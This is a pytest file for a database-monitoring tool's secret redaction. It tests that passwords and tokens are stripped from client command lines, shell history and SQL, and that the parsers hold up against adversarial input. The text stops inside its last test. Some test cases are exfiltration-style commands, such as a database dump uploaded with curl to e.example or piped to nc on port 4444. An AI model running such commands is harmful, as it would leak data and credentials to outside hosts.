"""Redaction: no secret from a command line, history entry or SQL text survives.

Every form named in issue 2 item 3 and the brief is a case; each asserts that
the secret is gone and that the non-secrets around it (hosts, databases, user
names, ports, paths) are kept. Hypothesis then embeds random secrets in the
same templates, and throws arbitrary and adversarial text at every parser.
"""

from __future__ import annotations

import json
import os
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from secrets_sweep import (
    PLANTED_SECRETS,
    SECRET_CMDLINES,
    SECRET_FORMS,
    SECRET_HISTORY,
    assert_no_secret,
    assert_no_secret_in_files,
    leaked,
    plant_homes,
    planted_db_client_pids,
    start_planted_clients,
    stop_clients,
    write_planted_log,
)

from osq_dbwatch import catalog
from osq_dbwatch.cmdline import (
    REDACTED,
    parse_db_command,
    parse_transfer_command,
    redact_cmdline,
    redact_text,
    sql_dump_intent,
)
from osq_dbwatch.tables import TABLES
from osq_dbwatch.tables.env import TableEnv

SECRET = "Zq7Secret9x"

# (command line with {s} for the secret, strings that must survive)
CMDLINE_CASES: list[tuple[str, tuple[str, ...]]] = [
    # -pSECRET: the mysql family only
    ("mysql -u root -p{s} app", ("mysql", "-u root", "app")),
    ("mysqldump -uroot -p{s} --all-databases --result-file=/tmp/all.sql", ("-uroot", "/tmp/all.sql")),
    ("mariadb -h db1 -p{s}", ("db1",)),
    ("mariadb-dump -h db1 -P 3307 -p{s} shop", ("db1", "3307", "shop")),
    ("mysql -h db1 -u root -p'{s}' app", ("db1", "root", "app")),
    ("mydumper -h db1 -u bob -p {s} -B shop -o /tmp/dd", ("db1", "bob", "shop", "/tmp/dd")),
    ("mysqlsh root:{s}@db1:3306", ("root", "db1:3306")),
    ("mysqlsh --uri root:{s}@db1:3306/shop", ("root", "db1:3306/shop")),
    ("mysqlsh --uri=root:{s}@db1:3306", ("root", "db1")),
    # --password= in every tool
    ("psql --password={s} -h db1 sales", ("db1", "sales")),
    ("mysql --password={s} -h db1", ("db1",)),
    ("mongodump --password={s} --out /tmp/d", ("/tmp/d",)),
    ("mongosh -u adm -p {s} db1", ("adm", "db1")),
    ("mongosh --username adm --password {s} db1/admin", ("adm", "db1/admin")),
    # environment
    ("PGPASSWORD={s} psql -h db1 -U bob sales", ("db1", "bob", "sales")),
    ("env MYSQL_PWD={s} mysql -h db1", ("db1",)),
    ("REDISCLI_AUTH={s} redis-cli -h r1", ("r1",)),
    ("sudo -u postgres env PGPASSWORD={s} psql -h db1 sales", ("postgres", "db1", "sales")),
    # URIs with credentials
    ("psql postgresql://bob:{s}@db1:5432/sales", ("bob", "db1:5432/sales")),
    ("pg_dump -d postgres://bob:{s}@db1/sales -f /tmp/s.sql", ("bob", "db1", "/tmp/s.sql")),
    ("mongosh --uri mongodb://adm:{s}@db1:27017/admin", ("adm", "db1:27017/admin")),
    ("mongodump --uri=mongodb+srv://adm:{s}@cluster0.example.net/app --out /tmp/d", ("cluster0.example.net", "/tmp/d")),
    ("redis-cli -u redis://default:{s}@r1:6379/0 --rdb /tmp/d.rdb", ("r1:6379", "/tmp/d.rdb")),
    ("cockroach sql --url postgresql://root:{s}@crdb:26257/bank", ("crdb:26257/bank",)),
    ("usql pg://bob:{s}@db1/sales", ("bob", "db1/sales")),
    # libpq connection strings
    ("psql host=db1 password={s} dbname=sales", ("db1", "sales")),
    # SQL in -c / -e
    ("mysql -e CREATE USER 'bob'@'%' IDENTIFIED BY '{s}'", ("bob",)),
    ("mysql -e ALTER USER bob IDENTIFIED WITH mysql_native_password BY '{s}'", ("bob", "mysql_native_password")),
    ("mysql -e SET PASSWORD FOR bob = PASSWORD('{s}')", ("bob",)),
    ("psql -h db1 -c ALTER USER bob PASSWORD '{s}'", ("db1", "bob")),
    ("psql -h db1 -c ALTER ROLE bob WITH LOGIN ENCRYPTED PASSWORD '{s}'", ("db1", "bob", "LOGIN")),
    ("psql -c CREATE ROLE app LOGIN PASSWORD '{s}' VALID UNTIL 'infinity'", ("app", "infinity")),
    # redis
    ("redis-cli -h r1 -a {s} keys *", ("r1", "keys")),
    ("redis-cli -h r1 --pass {s}", ("r1",)),
    ("redis-cli -h r1 --user admin --pass {s} --rdb /tmp/d.rdb", ("r1", "admin", "/tmp/d.rdb")),
    ("redis-cli -h r1 AUTH {s}", ("r1", "AUTH")),
    ("redis-cli -h r1 auth admin {s}", ("r1",)),
    ("sh -c redis-cli -h r1 auth {s}; redis-cli -h r1 --rdb /tmp/d.rdb", ("r1", "/tmp/d.rdb")),
    # mongosh helpers inside --eval
    ("mongosh db1/admin --eval db.auth('adm', '{s}')", ("db1/admin", "adm")),
    ('mongosh --eval db.createUser({{user:"app",pwd:"{s}",roles:[]}})', ("app", "roles")),
    # SQL Server, Oracle
    ("sqlcmd -S sql1 -U sa -P {s} -Q SELECT 1", ("sql1", "sa", "SELECT 1")),
    ("sqlcmd -S sql1 -U sa -P{s} -d app", ("sql1", "sa", "app")),
    ("bcp dbo.users out /tmp/u.dat -S sql1 -U sa -P {s}", ("/tmp/u.dat", "sql1", "sa")),
    ("sqlplus scott/{s}@orcl", ("scott", "orcl")),
    ("sqlplus -s scott/{s}@//ora1:1521/orclpdb @/tmp/q.sql", ("scott", "ora1:1521/orclpdb", "/tmp/q.sql")),
    ("expdp system/{s}@orcl dumpfile=x.dmp directory=DATA_PUMP_DIR", ("system", "x.dmp")),
    # other clients
    ("cqlsh -u cassandra -p {s} cass1 9042", ("cassandra", "cass1", "9042")),
    ("clickhouse client --host ch1 --password {s}", ("ch1",)),
    ("clickhouse-client --password={s} --query SELECT 1", ("SELECT 1",)),
    ("influx query -t {s} --org acme", ("acme",)),
    ("isql MyDSN bob {s}", ("MyDSN", "bob")),
    ("influx -host i1 -username u -password {s} -database metrics", ("i1", "metrics")),
    # transfer tools
    ("curl -u bob:{s} https://e.example/up", ("bob", "e.example")),
    ("curl --user bob:{s} -T /tmp/x.sql ftp://e.example/", ("bob", "/tmp/x.sql", "e.example")),
    ("curl -H Authorization: Bearer {s} https://e.example", ("e.example",)),
    ("curl -H 'Authorization: Basic {s}' https://e.example", ("e.example",)),
    ("curl -H X-Api-Key: {s} https://e.example", ("e.example",)),
    ("curl https://e.example/upload?token={s}", ("e.example",)),
    ("wget --password={s} --user=bob http://e.example/", ("bob", "e.example")),
    ("wget --http-password {s} http://e.example/", ("e.example",)),
    ("openssl enc -aes-256-cbc -in /tmp/x.sql -out /tmp/x.enc -k {s}", ("/tmp/x.sql", "/tmp/x.enc")),
    ("openssl enc -in /tmp/x.sql -pass pass:{s}", ("/tmp/x.sql",)),
    ("zip -P {s} /tmp/x.zip /tmp/x.sql", ("/tmp/x.zip", "/tmp/x.sql")),
    ("7z a -p{s} /tmp/x.7z /tmp/x.sql", ("/tmp/x.7z", "/tmp/x.sql")),
    ("sshpass -p {s} scp /tmp/x.sql bob@e.example:", ("/tmp/x.sql", "bob@e.example")),
    # the families' admin and import tools share their password options
    ("mysqladmin -u root -p{s} processlist", ("root", "processlist")),
    ("mariadb-admin -h db1 -p{s} status", ("db1", "status")),
    ("mysqlbinlog -R -h db1 -p{s} binlog.000042", ("db1", "binlog.000042")),
    ("mongorestore -u adm -p {s} /tmp/d", ("adm", "/tmp/d")),
    ("mongoimport --password {s} --file /tmp/x.json", ("/tmp/x.json",)),
    ("redis-benchmark -h r1 -a {s}", ("r1",)),
    ("curl --oauth2-bearer {s} https://e.example", ("e.example",)),
    ("aws configure set aws_secret_access_key {s}", ("aws_secret_access_key",)),
    ("sshpass -p{s} ssh bob@e.example", ("bob@e.example",)),
    ("curl -b session={s} https://e.example", ("e.example",)),
    # programs outside the catalog: their password-like options carry a value
    ("docker login -u bob --password {s} registry.example", ("bob", "registry.example")),
    ("vault login --token {s}", ("vault login",)),
    ("gpg --batch --passphrase {s} -c /tmp/x.sql", ("/tmp/x.sql",)),
    ("gpg --passphrase={s} -c /tmp/x.sql", ("/tmp/x.sql",)),
    ("docker exec db mysql -uroot -p{s} shop", ("db", "shop")),
    ("kubectl exec -it pg-0 -- psql postgresql://bob:{s}@localhost/sales", ("pg-0", "localhost/sales")),
    ('su -c "mysql -p{s}" postgres', ("postgres",)),
    # nested in shells: the tool rules follow the program named last
    ("sh -c mysqldump -u root -p{s} app > /tmp/a.sql", ("root", "app", "/tmp/a.sql")),
    ('sh -c "mysqldump -u root -p{s} app > /tmp/a.sql"', ("root", "/tmp/a.sql")),
    ("bash -c psql -h db1; mysql -p{s} -h db2", ("db1", "db2")),
    # a secret glued to a shell separator is still the tool's
    ("sh -c mysqldump -u root -p{s}; curl -T /tmp/a.sql https://e.example", ("curl", "/tmp/a.sql", "e.example")),
    ("sh -c redis-cli -a {s}| nc e.example 4444", ("nc", "e.example", "4444")),
    ("sh -c PGPASSWORD={s}; psql -h db1", ("psql", "db1")),
    # issue 11 item 4: a `;`, `|` or `&` inside an argument does not end the tool (osquery joins argv with
    # spaces: `mysql -e "use shop; select 1" -uroot -pX` arrives as below)
    ("mysql -e use shop; select 1 -uroot -p{s}", ("use shop;", "select 1", "-uroot")),
    ("mysql -e use shop ; select 1 -uroot -p{s}", ("use shop ;", "-uroot")),
    ("mysql -e select a | b from t -uroot -p{s}", ("a | b", "-uroot")),
    ("mysql -e select a|b from t -uroot -p{s}", ("a|b", "-uroot")),
    ("mysql -e select 1 & 2 -uroot -p{s} shop", ("shop",)),
    ("mysql -e select 1 && select 2 --user=root -p{s}", ("--user=root",)),
    ("mysqldump shop; -p{s}", ("mysqldump shop;",)),
    ("sh -c mysql -e select 1; docker login --password {s} registry.example", ("registry.example",)),
    ("sh -c psql -c select 1; docker login --password {s} registry.example", ("registry.example",)),
    # SET PASSWORD FOR, quoted and (shell quotes gone) bare; MySQL 8's REPLACE 'old'
    ("mysql -e SET PASSWORD FOR 'bob'@'%' = '{s}'", ("bob", "SET PASSWORD FOR")),
    ("mysql -e SET PASSWORD FOR bob@localhost = {s}", ("bob@localhost",)),
    ('mysql -e SET PASSWORD FOR bob = "{s}";', ("bob",)),
    ("mysql -e SET PASSWORD FOR bob = 'x' REPLACE '{s}'", ("bob",)),
    ("mysql -e ALTER USER bob IDENTIFIED BY 'x' REPLACE '{s}'", ("bob",)),
    ("mysql -e ALTER USER bob IDENTIFIED BY '{s}'", ("ALTER USER bob",)),
    ("psql -c CREATE USER app PASSWORD '{s}'", ("CREATE USER app",)),
    # the Mongo tools: -p PASS and (Go tools) -pPASS
    ("mongosh -u adm -p {s} db1/admin", ("adm", "db1/admin")),
    ("mongodump -u adm -p {s} --out /tmp/d", ("adm", "/tmp/d")),
    ("mongodump -u adm -p{s} --out /tmp/d", ("adm", "/tmp/d")),
    ("mongoexport -u adm -p{s} -d app -c users -o /tmp/u.json", ("/tmp/u.json",)),
    ("node /usr/bin/mongosh -u adm -p {s}", ("adm",)),
    # mysqladmin's password command
    ("mysqladmin -u root password {s}", ("root", "password")),
    ("mysqladmin -u root -pold password {s}", ("root", "password")),
    ("mariadb-admin -h db1 -u root password {s}", ("db1",)),
    # --*-pass / --*-password options, of programs we know and programs we do not
    ("/opt/app/bin/migrate --db-host db1 --db-password {s}", ("--db-host db1",)),
    ("rclone copy /tmp/d.sql ftp: --ftp-host e.example --ftp-pass {s}", ("e.example", "/tmp/d.sql")),
    ("rclone copy /tmp/d.sql remote: --sftp-pass {s}", ("/tmp/d.sql",)),
    ("app --smtp-password {s} --mail-from x@e.example", ("x@e.example",)),
    ("psql -h db1 --admin-token {s} sales", ("db1", "sales")),
    ("redis-server --requirepass {s} --port 6380", ("6380",)),
    ("mycli -h db1 -p {s} shop", ("db1", "shop")),
    # secret options of the tools' own specs that no generic rule covers (catalog.OptionSpec.secret),
    # spaced and glued on with `=`
    ("mongosh --tls --tlsCertificateKeyFilePassword {s} db1/app", ("--tls", "db1/app")),
    ("mongodump --sslPEMKeyPassword {s} --db app -o /tmp/d", ("app", "/tmp/d")),
    ("mongosh --awsAccessKeyId AKIA1 --awsSecretAccessKey {s} app", ("AKIA1", "app")),
    ("mongosh --awsSessionToken {s} app", ("app",)),
    ("sqlcmd -S sql1 -U sa -P old -z {s}", ("sql1", "sa")),
    ("sqlcmd -S sql1 -U sa -P old -Z {s}", ("sql1", "sa")),
    ("clickhouse-client --host ch1 --jwt {s} -q SELECT 1", ("ch1", "SELECT 1")),
    ("clickhouse-client --jwt={s} --host ch1", ("--jwt=", "ch1")),
    ("mariabackup --backup --encrypt AES256 --encrypt-key {s} --target-dir /tmp/b", ("AES256", "/tmp/b")),
    ("mariabackup --backup --encrypt-key={s} --target-dir=/tmp/b", ("--encrypt-key=", "/tmp/b")),
    ("mycli --ssh-host jump --ssh-password {s} -h db2 shop", ("jump", "db2", "shop")),
    # URIs whose password holds `/` or `@` (typed unescaped)
    ("psql postgresql://bob:a/{s}@db1:5432/sales", ("bob", "db1:5432/sales")),
    ("mongosh mongodb://adm:{s}@x@db1:27017/admin", ("adm", "db1:27017/admin")),
    ("curl ftp://bob:{s}/x@e.example/in -T /tmp/x.sql", ("bob", "e.example/in", "/tmp/x.sql")),
]


@pytest.mark.parametrize(("template", "keep"), CMDLINE_CASES)
def test_cmdline_secret_removed_context_kept(template: str, keep: tuple[str, ...]) -> None:
    line = template.format(s=SECRET)
    out = redact_cmdline(line)
    assert SECRET not in out
    assert REDACTED in out
    for word in keep:
        assert word in out, f"{word!r} lost from {out!r}"


HISTORY_CASES: list[tuple[str, tuple[str, ...]]] = [
    ("ALTER USER bob WITH PASSWORD '{s}';", ("bob",)),
    ("CREATE USER 'app'@'10.%' IDENTIFIED BY '{s}';", ("app",)),
    ("GRANT ALL ON *.* TO 'app'@'%' IDENTIFIED BY '{s}';", ("GRANT ALL", "app")),
    ("AUTH {s}", ("AUTH",)),
    ("AUTH default {s}", ("AUTH",)),
    ("auth {s}", ()),
    ("HELLO 3 AUTH default {s}", ("HELLO 3 AUTH",)),
    ("MIGRATE 10.0.0.9 6379 sessions 0 5000 AUTH {s}", ("10.0.0.9", "sessions")),
    ("MIGRATE 10.0.0.9 6379 \"\" 0 5000 AUTH2 admin {s} KEYS a b", ("10.0.0.9",)),
    ("db.auth('adm', '{s}')", ("adm",)),
    ('db.auth("adm", "{s}")', ("adm",)),
    ('db.createUser({{ user: "app", pwd: "{s}", roles: ["read"] }})', ("app", "read")),
    ("db.changeUserPassword('app', passwordPrompt()) ; x = {{ password: '{s}' }}", ("app",)),
    ("\\connect postgresql://bob:{s}@db1/sales", ("bob", "db1/sales")),
    ("CONFIG SET requirepass {s}", ()),
    ("connect scott/{s}@orcl", ("scott", "orcl")),
    ("CONN system/{s}", ("system",)),
    ("db.getSiblingDB('admin').auth('adm', '{s}')", ("admin", "adm")),
    ('db.changeUserPassword("app", "{s}")', ("app",)),
    ("ALTER LOGIN sa WITH PASSWORD = '{s}'", ("sa",)),
    ("CREATE LOGIN etl WITH PASSWORD='{s}', CHECK_POLICY=OFF", ("etl", "CHECK_POLICY")),
    ("config set masterauth={s}", ()),
    ("SET PASSWORD = PASSWORD('{s}');", ()),
    ("SET PASSWORD FOR 'bob'@'%' = '{s}';", ("bob",)),
    ('SET PASSWORD FOR bob@localhost = "{s}";', ("bob@localhost",)),
    ("set password for app = '{s}'", ("app",)),
    ("SET PASSWORD FOR bob = 'new' REPLACE '{s}' RETAIN CURRENT PASSWORD;", ("bob", "RETAIN CURRENT")),
    ("ALTER USER bob IDENTIFIED BY 'new' REPLACE '{s}';", ("bob",)),
    ("CREATE USER app WITH LOGIN PASSWORD '{s}';", ("app", "LOGIN")),
    ("\\connect postgresql://bob:a/{s}@db1/sales", ("bob", "db1/sales")),
]


@pytest.mark.parametrize(("template", "keep"), HISTORY_CASES)
def test_text_secret_removed(template: str, keep: tuple[str, ...]) -> None:
    out = redact_text(template.format(s=SECRET))
    assert SECRET not in out
    for word in keep:
        assert word in out


@pytest.mark.parametrize(
    "line",
    [
        "psql -p 5432 -h db1 -U bob sales",  # -p is psql's port
        "psql -h db1 -p5433 sales",
        "redis-cli -h r1 -p 6380",
        "pg_dump -p 5432 -f /tmp/x.sql sales",
        "mysql -u root -p app",  # bare -p prompts; `app` is the database
        "mysql -P 3307 -h db1 app",
        "mysql --password sales",  # mysql: --password without = prompts; sales is the database
        "psql -W -U bob sales",
        "curl -u bob https://e.example",  # curl prompts for the password
        "scp /tmp/x.sql bob@e.example:/in/",
        "ssh -p 2222 bob@e.example",
        "tar czf /tmp/x.tgz /tmp/x.sql",
        "mongosh db1:27017/admin",
        "ls -la /var/lib/postgresql",
        "select * from users where id = 1",
        "select auth, token_count from sessions",  # words alone are not secrets
        "redis-cli -h r1 keys auth*",
        "psql --no-password -h db1 sales",  # a flag, not a secret option
        "mysql --skip-password -h db1 sales",
        "rsync --password-file /etc/rsync.pw /tmp/x.sql backup@e.example:/in/",
        "mysql -e use shop; select 1 -uroot shop",
        "curl https://e.example/a@b -o /tmp/x",
        "curl https://e.example:8443/x",
    ],
)
def test_non_secrets_unchanged(line: str) -> None:
    assert redact_cmdline(line) == line
    assert redact_text(line) == line


def test_spacing_is_kept() -> None:
    assert redact_cmdline("mysql  -u\troot   -pX1  app") == "mysql  -u\troot   -p****  app"


def test_redact_is_idempotent() -> None:
    for template, _ in CMDLINE_CASES:
        once = redact_cmdline(template.format(s=SECRET))
        assert redact_cmdline(once) == once


# ---------------------------------------------------------------------------
# Property tests: random secrets never survive

# Characters a password can hold on a command line (no whitespace; characters
# that end a URI userinfo or a quoted string are left to the per-template set).
_SAFE = string.ascii_letters + string.digits + "!#%+,-.=?^_~"
_URI_SAFE = string.ascii_letters + string.digits + "!$%*+,-.;=_~"


def _secret(alphabet: str) -> st.SearchStrategy[str]:
    # a leading and trailing letter keep the secret from starting an option
    return st.builds(lambda a, b, c: a + b + c, st.sampled_from("QXZ"), st.text(alphabet, min_size=4, max_size=40), st.sampled_from("QXZ"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=st.sampled_from(CMDLINE_CASES), secret=_secret(_SAFE))
def test_random_secret_never_survives_cmdline(case: tuple[str, tuple[str, ...]], secret: str) -> None:
    template, _ = case
    if "://" in template or "@" in template.split("{s}", 1)[1][:1]:
        assume(all(c not in secret for c in "@/:?#"))
    assume(secret not in template.replace("{s}", ""))
    assume("'" not in secret and '"' not in secret)
    out = redact_cmdline(template.format(s=secret))
    assert secret not in out


@settings(max_examples=60, deadline=None)
@given(case=st.sampled_from(HISTORY_CASES), secret=_secret(_SAFE))
def test_random_secret_never_survives_text(case: tuple[str, tuple[str, ...]], secret: str) -> None:
    template, _ = case
    if "://" in template:
        assume(all(c not in secret for c in "@/:?#"))
    assume(secret not in template.replace("{s}", ""))
    out = redact_text(template.format(s=secret))
    assert secret not in out


@settings(max_examples=60, deadline=None)
@given(secret=_secret(_URI_SAFE), tool=st.sampled_from(["psql", "mongosh", "redis-cli", "pgcli", "usql", "mycli"]))
def test_random_uri_password_never_survives(secret: str, tool: str) -> None:
    assume("://" not in secret)
    line = f"{tool} scheme://someone:{secret}@db1.example:5432/app"
    out = redact_cmdline(line)
    assert secret not in out
    assert "db1.example:5432/app" in out


PARSE_CASES = [
    ("/usr/bin/psql", "psql postgresql://bob:{s}@db1:5432/sales"),
    ("/usr/bin/psql", "psql -d postgresql://bob:{s}@db1/sales -c select 1"),
    ("/usr/bin/psql", "psql host=db1 password={s} dbname=sales"),
    ("/usr/bin/mongosh", "mongosh --host mongodb://adm:{s}@db1/admin"),
    ("/usr/bin/mongodump", "mongodump --uri=mongodb://adm:{s}@db1/admin --out /tmp/d"),
    ("/usr/bin/mysqlsh", "mysqlsh root:{s}@db1:3306"),
    ("/usr/bin/redis-cli", "redis-cli -u redis://default:{s}@r1:6379/0"),
    ("/usr/bin/sqlplus", "sqlplus scott/{s}@//ora1:1521/orcl"),
    ("/usr/bin/mariadb", "mysql -u root -p{s} shop"),
    ("/usr/bin/cockroach", "cockroach sql --url postgresql://root:{s}@crdb:26257/bank"),
]


@settings(max_examples=60, deadline=None)
@given(case=st.sampled_from(PARSE_CASES), secret=_secret(string.ascii_letters + string.digits + "!$%*+,-.;=_~"))
def test_parsed_fields_never_carry_a_random_secret(case: tuple[str, str], secret: str) -> None:
    path, template = case
    assume(secret not in template.replace("{s}", ""))
    parsed = parse_db_command(path, template.format(s=secret).split())
    assert parsed is not None
    for value in (parsed.host, parsed.port, parsed.database, parsed.user, parsed.output_path, parsed.tool):
        assert secret not in value


@settings(max_examples=60, deadline=None)
@given(secret=_secret(_SAFE + ";&|"))
def test_secret_with_shell_separators_never_survives(secret: str) -> None:
    # /proc argv keeps `;` inside one argument; audit cmdlines join with spaces
    for line in (f"mysql -u root -p{secret} app", f"psql --password={secret} db", f"PGPASSWORD={secret} psql",
                 f"mysql -e use shop; select 1 -uroot -p{secret}", f"mysql -e a | b & c -p{secret}",
                 f"mongodump -u a -p {secret} --out /tmp/d", f"tool --db-password {secret}"):
        assert secret not in redact_cmdline(line)


# ---------------------------------------------------------------------------
# Robustness: never raise, never hang


def _all_parsers(text: str) -> None:
    redact_cmdline(text)
    redact_text(text)
    sql_dump_intent(text)
    argv = text.split()
    for path in ("/usr/bin/psql", "/usr/bin/mariadb", "/usr/bin/mongosh", "/usr/bin/sqlcmd", "/usr/bin/sqlplus", "/usr/bin/redis-cli"):
        parse_db_command(path, [path.rsplit("/", 1)[1], *argv])
        parse_db_command(path, [path.rsplit("/", 1)[1], "-c", text])
    for path in ("/usr/bin/curl", "/usr/bin/tar", "/usr/bin/nc", "/usr/bin/socat", "/usr/bin/aws", "/usr/bin/scp"):
        parse_transfer_command(path, [path.rsplit("/", 1)[1], *argv])
    parse_db_command("", argv)
    parse_transfer_command("", argv)


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=400))
def test_parsers_never_raise_on_text(text: str) -> None:
    _all_parsers(text)


@settings(max_examples=200, deadline=None)
@given(raw=st.binary(max_size=400))
def test_parsers_never_raise_on_undecodable_bytes(raw: bytes) -> None:
    _all_parsers(raw.decode("utf-8", "surrogateescape"))
    _all_parsers(raw.replace(b"\0", b" ").decode("utf-8", "surrogateescape"))


_WORDS = ["psql", "mysql", "-p", "-pX", "-h", "-c", "--password=", "://", "@", ":", "copy", "to", "\\copy", "into",
          "outfile", "identified", "by", "'", '"', "password", "auth", "AUTH", ";", "|", "&&", "$(", "`", "sh", "-c",
          "curl", "-T", "-F", "@/tmp/x", "sudo", "env", "PGPASSWORD=", "\0", "\n", "\udcff", "db.auth(", "pwd:",
          "Authorization:", "sqlplus", "a/b@c", "tar", "czf", "nc", "mongosh", "--uri", "x=y", "=", "/"]


@settings(max_examples=200, deadline=None)
@given(words=st.lists(st.sampled_from(_WORDS), max_size=40), seps=st.sampled_from([" ", "", "  ", "\t"]))
def test_parsers_never_raise_on_token_soup(words: list[str], seps: str) -> None:
    _all_parsers(seps.join(words))


BIG = 100_000
ADVERSARIAL = {
    "spaces": " " * BIG,
    "one-token": "a" * BIG,
    "nul": "\0" * BIG,
    "surrogates": (b"\xff\xfe" * (BIG // 2)).decode("utf-8", "surrogateescape"),
    "password-words": "password" * (BIG // 8),
    "password-eq": "password=" * (BIG // 9),
    "password-eq-space": "password= " * (BIG // 10),
    "scheme": "a://" * (BIG // 4),
    "scheme-user": "a://b:" * (BIG // 6),
    "identified": "identified by " * (BIG // 14),
    "pwd-quote": "pwd:'" * (BIG // 5),
    "auth": "auth " * (BIG // 5),
    "authorization": "authorization: " * (BIG // 15),
    "copy-words": "copy " * (BIG // 5),
    "copy-to": "copy to " * (BIG // 8),
    "backslash-copy": "\\copy " * (BIG // 6),
    "copy-then-a": "\\copy x to '" + "a" * BIG,
    "into-outfile": "into outfile " * (BIG // 13),
    "quotes": "'" * BIG,
    "dash-p": "-p" * (BIG // 2),
    "mysql-p": "mysql -p" * (BIG // 8),
    "oracle": "sqlplus " + "a/" * (BIG // 2),
    "at-colon": "x:" * (BIG // 4) + "@" * (BIG // 4),
    "semicolons": ";" * BIG,
    "curl-F": "curl -F @" * (BIG // 9),
    "newlines": "\n" * BIG,
}


# Every word a redaction or dump-intent pattern starts from, followed by a long
# run of one character: a pattern with two adjacent `\s*` (or similar) runs
# backtracks quadratically there ("password" + 100 KB of spaces took 45 s).
TRIGGERS = ["password", "password=", "password (", "PASSWORD password", "authorization:", "authorization: bearer",
            "x-api-key:", "identified", "identified by", "identified with x", "pwd", "pwd:", "db.auth(", ".auth('a',",
            "auth", "AUTH ", "config set", "config set requirepass", "connect", "conn a/", "aws_secret_access_key",
            "copy", "\\copy", "copy x to", "into", "into outfile", "tee", ";tee", "pager", "\\o", "\\g", "\\g (",
            ".once", ".output -x", "writeFile(", "lo_export(", "save", "a://", "a://b:", "mysql -p", "--password=",
            "PGPASSWORD=", "sqlplus a/", "token", "api_key", "-pass"]
FILLERS = [" ", "a", "'", "="]
TRIGGER_RUN = 40_000  # long enough that a quadratic pattern takes seconds (visible with --durations)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_trigger_then_100kb_completes(trigger: str) -> None:
    # no timing assertion: finishing at all shows no quadratic or exponential backtracking
    for filler in FILLERS:
        text = trigger + filler * TRIGGER_RUN + "x"
        redact_text(text)
        redact_cmdline(text)
        sql_dump_intent(text)


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_100kb_inputs_complete(name: str) -> None:
    # No timing assertion: the test finishing at all shows no catastrophic backtracking.
    text = ADVERSARIAL[name]
    redact_cmdline(text)
    redact_text(text)
    redact_cmdline("mysql " + text)
    sql_dump_intent(text)
    parse_db_command("/usr/bin/psql", ["psql", *text.split()[:2000]])
    parse_db_command("/usr/bin/psql", ["psql", "-c", text])
    parse_transfer_command("/usr/bin/curl", ["curl", *text.split()[:2000]])


# ---------------------------------------------------------------------------
# Planted-secret sweep (tests/secrets_sweep.py): every form, through every output


@pytest.mark.parametrize("form", sorted(SECRET_CMDLINES))
def test_planted_cmdline_form_redacted(form: str) -> None:
    out = redact_cmdline(SECRET_CMDLINES[form])
    assert_no_secret(out, form)
    assert REDACTED in out


@pytest.mark.parametrize("form", sorted(SECRET_HISTORY))
def test_planted_history_form_redacted(form: str) -> None:
    out = redact_text(SECRET_HISTORY[form])
    assert_no_secret(out, form)
    assert REDACTED in out


def test_sweep_helper_names_the_leaking_form() -> None:
    assert leaked(b"x " + PLANTED_SECRETS["db-password"].encode() + b" y") == [PLANTED_SECRETS["db-password"]]
    assert leaked("nothing here") == []
    with pytest.raises(AssertionError, match="rclone-ftp-pass"):
        assert_no_secret("... " + PLANTED_SECRETS["rclone-ftp-pass"])


@pytest.fixture
def planted_homes(tmp_path: Path) -> TableEnv:
    """One user whose every catalog history file holds every planted secret form."""
    passwd, group = plant_homes(tmp_path)
    return TableEnv(passwd_path=passwd, group_path=group)


def test_history_table_rows_carry_no_planted_secret(planted_homes: TableEnv) -> None:
    rows = TABLES["db_client_history"](planted_homes).rows()
    per_file = len(SECRET_HISTORY) + len(SECRET_CMDLINES)
    assert len(rows) == per_file * len(catalog.HISTORY_SOURCES)  # every entry read, none dropped
    assert_no_secret(json.dumps(rows), "db_client_history rows")


def test_tables_json_output_carries_no_planted_secret(planted_homes: TableEnv, monkeypatch, capsys,
                                                      tmp_path: Path) -> None:
    """`osq-dbwatch tables --json`: history files planted with secrets, and DB clients running with them."""
    from osq_dbwatch import cli
    from osq_dbwatch.tables import cli as tables_cli

    monkeypatch.setattr(tables_cli, "TableEnv", lambda config: TableEnv(
        config, passwd_path=planted_homes.passwd_path, group_path=planted_homes.group_path))
    procs = start_planted_clients(tmp_path / "bin")
    try:
        assert cli.main(["tables", "--json"]) == 0
    finally:
        stop_clients(procs)
    out = capsys.readouterr()
    payload = json.loads(out.out)
    sessions = {int(r["pid"]) for r in payload["db_cli_sessions"]}
    db_clients = planted_db_client_pids(procs)
    assert set(db_clients) <= sessions  # the planted clients were seen, so their command lines were emitted
    assert len(payload["db_client_history"]) == (len(SECRET_HISTORY) + len(SECRET_CMDLINES)) * len(
        catalog.HISTORY_SOURCES)
    assert_no_secret(out.out, "osq-dbwatch tables --json")
    assert_no_secret(out.err, "osq-dbwatch tables stderr")


@pytest.mark.parametrize("fmt", ["ocsf", "ecs"])
def test_correlator_output_carries_no_planted_secret(fmt: str, tmp_path: Path, capsys) -> None:
    from correlate_scenarios.helpers import HERE, correlate

    log = tmp_path / "planted.log"
    write_planted_log(log)
    findings = correlate(["--config", os.path.join(HERE, "config.yml"), "--format", fmt, str(log)],
                         str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))
    text = (tmp_path / "out.jsonl").read_text()
    # every planted command line and history entry reached a finding (so the sweep saw it, redacted)
    for form, line in SECRET_FORMS.items():
        shown = redact_cmdline(line) if form in SECRET_CMDLINES else redact_text(line)
        assert json.dumps(shown)[1:-1] in text, form
    assert len(findings) >= len(SECRET_FORMS)
    assert_no_secret(text, f"correlator {fmt} findings")
    err = capsys.readouterr()
    assert_no_secret(err.out + err.err, "correlator stdout/stderr")


def test_correlator_state_carries_no_planted_secret(tmp_path: Path) -> None:
    from correlate_scenarios.helpers import HERE, correlate

    log = tmp_path / "planted.log"
    write_planted_log(log)
    state = str(tmp_path / "state.sqlite")
    correlate(["--config", os.path.join(HERE, "config.yml"), str(log)], state, str(tmp_path / "out.jsonl"))
    assert_no_secret_in_files([state, state + "-wal", state + "-shm"])


def test_a_saved_state_with_raw_history_keys_is_upgraded_and_still_deduplicates() -> None:
    """States written before history keys were hashed load with the secret gone, and the same entry read
    again (snapshots repeat every history line) is still known: no second access."""
    from osq_dbwatch.config import parse_config
    from osq_dbwatch.correlate.engine import Engine
    from osq_dbwatch.correlate.evidence import history_id
    from osq_dbwatch.correlate.hoststate import HostState
    from osq_dbwatch.correlate.jsonlib import dumps
